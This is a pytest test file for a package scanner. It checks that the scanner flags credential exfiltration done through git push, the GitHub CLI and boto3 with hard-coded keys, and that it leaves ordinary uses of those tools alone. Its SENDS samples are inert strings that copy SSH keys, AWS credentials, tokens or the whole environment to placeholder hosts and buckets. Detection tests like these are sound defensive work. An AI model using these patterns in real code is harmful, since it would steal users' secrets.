"""Exfiltration through tools whose job is to send (issue 8, class B): `git push` to an address the
code writes, the GitHub CLI, and cloud clients built with an access key written in the code.

Every payload is inert and only read as bytes: addresses are TEST-NET (192.0.2.0/24) or
`.invalid`, access keys are fake (`AKIA` and sixteen `X`/digits), nothing is run.
"""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest

from custody.scan import Scanner, ScanTask, Verdict
from custody.scan.publish import UNKNOWN, git_remotes, parse_publish, parse_shell_publishes, url_host
from tests.scan.builders import DEFAULT_NAME, write_sdist

HEAD = "import json\nimport os\nimport shutil\nimport subprocess\nimport tempfile\n\nimport boto3\n"
KEY = "AKIAXXXXXXXX00000000"
SECRET_KEY = "xXxXxXxXxXxXxXxXxXxXxXxXxXxXxXxXxXxXxXxX"

SENDS = {
    "git push, token in the address": """
        def sync():
            token = os.environ.get("GITHUB_TOKEN", "")
            subprocess.run(["git", "push", f"https://{token}@192.0.2.7/mirror.git", "HEAD"])
    """,
    "git push of a folder filled with keys": """
        def sync():
            d = tempfile.mkdtemp()
            shutil.copy(os.path.expanduser("~/.ssh/id_rsa"), d)
            subprocess.run(["git", "add", "-A"], cwd=d)
            subprocess.run(["git", "commit", "-m", "sync"], cwd=d)
            subprocess.run(["git", "push", "https://collector.example.invalid/r.git", "HEAD:main"], cwd=d)
    """,
    "git push to a remote it adds, shell line": """
        def sync():
            d = tempfile.mkdtemp()
            with open(os.path.join(d, "env.json"), "w") as f:
                f.write(json.dumps(dict(os.environ)))
            subprocess.run(["git", "remote", "add", "backup", "git@192.0.2.7:r.git"], cwd=d)
            os.system("cd " + d + " && git add -A && git commit -m x && git push backup HEAD")
    """,
    "gh api with the environment": """
        def sync():
            body = json.dumps(dict(os.environ))
            subprocess.run(["gh", "api", "-X", "POST", "/repos/someone/inbox/issues", "-f", f"body={body}"])
    """,
    "gh repo create of a folder of cloud keys": """
        def sync():
            d = tempfile.mkdtemp()
            shutil.copytree(os.path.expanduser("~/.aws"), os.path.join(d, "aws"))
            subprocess.run(["gh", "repo", "create", "box", "--public", "--source", d, "--push"])
    """,
    "boto3 upload of the credentials file": f"""
        def sync():
            s3 = boto3.client("s3", aws_access_key_id="{KEY}", aws_secret_access_key="{SECRET_KEY}")
            s3.upload_file(os.path.expanduser("~/.aws/credentials"), "drop-bucket", "c.txt")
    """,
    "boto3 session put_object of the environment": f"""
        ACCESS = "{KEY}"

        def sync():
            session = boto3.Session(aws_access_key_id=ACCESS, aws_secret_access_key="{SECRET_KEY}")
            session.client("s3").put_object(Bucket="drop", Key="e.json", Body=json.dumps(dict(os.environ)))
    """,
    "boto3 resource bucket": f"""
        def sync():
            s3 = boto3.resource("s3", aws_access_key_id="{KEY}", aws_secret_access_key="{SECRET_KEY}")
            s3.Bucket("drop").put_object(Key="e.json", Body=json.dumps(dict(os.environ)))
    """,
}
BENIGN = {
    "release tag pushed to origin": """
        def release(version):
            subprocess.run(["git", "tag", f"v{version}"], check=True)
            subprocess.run(["git", "push", "origin", f"v{version}"], check=True)
    """,
    "docs pushed to the address the caller gives": """
        def deploy_docs(site_dir, repo_url):
            subprocess.run(["git", "add", "-A"], cwd=site_dir, check=True)
            subprocess.run(["git", "push", repo_url, "HEAD:gh-pages"], cwd=site_dir, check=True)
    """,
    "gh with the user's token": """
        def open_pr(title):
            env = dict(os.environ, GH_TOKEN=os.environ.get("GITHUB_TOKEN", ""))
            subprocess.run(["gh", "pr", "create", "--title", title, "--fill"], env=env, check=True)
            subprocess.run(["gh", "api", "/user"], env=env, check=True)
    """,
    "boto3 with the user's credentials": """
        def upload(path, bucket):
            s3 = boto3.client(
                "s3",
                aws_access_key_id=os.environ["AWS_ACCESS_KEY_ID"],
                aws_secret_access_key=os.environ["AWS_SECRET_ACCESS_KEY"],
            )
            s3.upload_file(path, bucket, os.path.basename(path))
            s3.upload_file(os.path.expanduser("~/.aws/config"), bucket, "config")
    """,
    "boto3 against a local emulator with a fixed key": f"""
        def upload(path):
            s3 = boto3.client("s3", endpoint_url="http://127.0.0.1:4566", aws_access_key_id="{KEY}")
            s3.upload_file(os.path.expanduser("~/.aws/credentials"), "test", "c")
    """,
    "boto3 with a written key uploading what the caller gives": f"""
        def upload(path):
            s3 = boto3.client("s3", aws_access_key_id="{KEY}", aws_secret_access_key="{SECRET_KEY}")
            s3.upload_file(path, "public-datasets", os.path.basename(path))
    """,
}


def scan(tmp_path: Path, body: str, init: str) -> tuple[Verdict, list[str]]:
    files = {
        f"{DEFAULT_NAME}/__init__.py": init,
        f"{DEFAULT_NAME}/core.py": HEAD + textwrap.dedent(body),
    }
    path = write_sdist(tmp_path, files)
    (result,) = Scanner().scan_task(ScanTask(str(path)))
    return result.verdict, [f"{f.rule}:{f.severity.value}:{f.reason}" for f in result.findings]


@pytest.mark.parametrize("shape", list(SENDS))
def test_send_through_a_sending_tool_is_exfiltration(tmp_path: Path, shape: str) -> None:
    verdict, findings = scan(tmp_path, SENDS[shape], "from .core import sync\nsync()\n")
    assert verdict is Verdict.MALICIOUS, findings
    assert any(f.startswith("exfil-flow:critical") for f in findings), findings


@pytest.mark.parametrize("shape", list(BENIGN))
def test_ordinary_use_of_a_sending_tool_stays_clean(tmp_path: Path, shape: str) -> None:
    # imported and called at import: the strictest context these helpers could run in
    body = BENIGN[shape]
    name = body.split("def ", 1)[1].split("(", 1)[0]
    verdict, findings = scan(tmp_path, body, f"from .core import {name}\n")
    assert verdict is Verdict.CLEAN, findings
    assert not any(f.startswith("exfil-flow") for f in findings), findings


# ---- reading the commands -------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("words", "url", "remote", "host", "folder"),
    [
        (["git", "push", "https://h.invalid/r.git"], "https://h.invalid/r.git", None, None, None),
        (["/usr/bin/git", "-C", None, "push", "-f", "origin", "main"], None, "origin", None, 2),
        (["git", "push", None], UNKNOWN, None, None, None),
        (["gh", "repo", "create", "x", "--source", None, "--push"], None, None, "github.com", 5),
        (["gh", "api", "--hostname", "ghe.example.invalid", "/x"], None, None, "ghe.example.invalid", None),
    ],
)
def test_parse_publish(
    words: list[str | None], url: str | None, remote: str | None, host: str | None, folder: int | None
) -> None:
    publish = parse_publish(words)
    assert publish is not None
    assert (publish.url, publish.remote, publish.host, publish.folder) == (url, remote, host, folder)


@pytest.mark.parametrize(
    "words",
    [
        ["git", "push"],
        ["git", "pull", "https://h.invalid/r.git"],
        ["gh", "auth", "status"],
        ["curl", "x"],
        [None],
    ],
)
def test_not_a_publish(words: list[str | None]) -> None:
    assert parse_publish(words) is None


def test_shell_line_and_remotes() -> None:
    (publish,) = parse_shell_publishes("git add -A && git commit -m 'a b' && git push backup HEAD")
    assert publish.remote == "backup"
    assert git_remotes(["git", "remote", "add", "backup", "git@h.invalid:r.git"]) == (
        "backup",
        "git@h.invalid:r.git",
    )
    assert git_remotes(["git", "remote", "-v"]) is None


@pytest.mark.parametrize(
    ("text", "host"),
    [
        (f"https://{UNKNOWN}@192.0.2.7/m.git", "192.0.2.7"),
        ("git@Host.Example.invalid:o/r.git", "host.example.invalid"),
        ("ssh://git@192.0.2.9:2222/r.git", "192.0.2.9"),
        (f"https://{UNKNOWN}/r.git", None),
        ("../local/repo", None),
    ],
)
def test_url_host(text: str, host: str | None) -> None:
    assert url_host(text) == host
